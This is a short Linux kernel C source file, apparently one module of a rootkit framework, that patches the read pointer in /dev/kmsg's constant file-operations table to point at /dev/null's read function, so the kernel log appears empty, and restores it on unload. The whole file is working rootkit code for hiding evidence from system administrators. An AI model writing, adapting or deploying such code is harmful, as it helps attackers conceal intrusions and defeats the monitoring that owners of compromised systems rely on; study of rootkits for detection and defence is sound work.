// SPDX-License-Identifier: GPL-2.0-only
/*
 * Bends a constant table of operations to another function of the kernel itself: /dev/kmsg is read
 * as /dev/null is, so that the log looks empty.
 */
#include <linux/fs.h>

#include "rk.h"
#include "rk_text.h"

static struct file_operations *table;
static ssize_t (*original)(struct file *file, char __user *buf, size_t len, loff_t *at);

static int on(void)
{
	const struct file_operations *other = (void *)rk_lookup("null_fops");

	table = (void *)rk_lookup("kmsg_fops");
	if (!table || !other)
		return -ENOENT;
	original = table->read;
	return rk_write_text(&table->read, &other->read, sizeof(original));
}

static void off(void)
{
	rk_write_text(&table->read, &original, sizeof(original));
}

RK_MODULE(bent_ops, on, off);
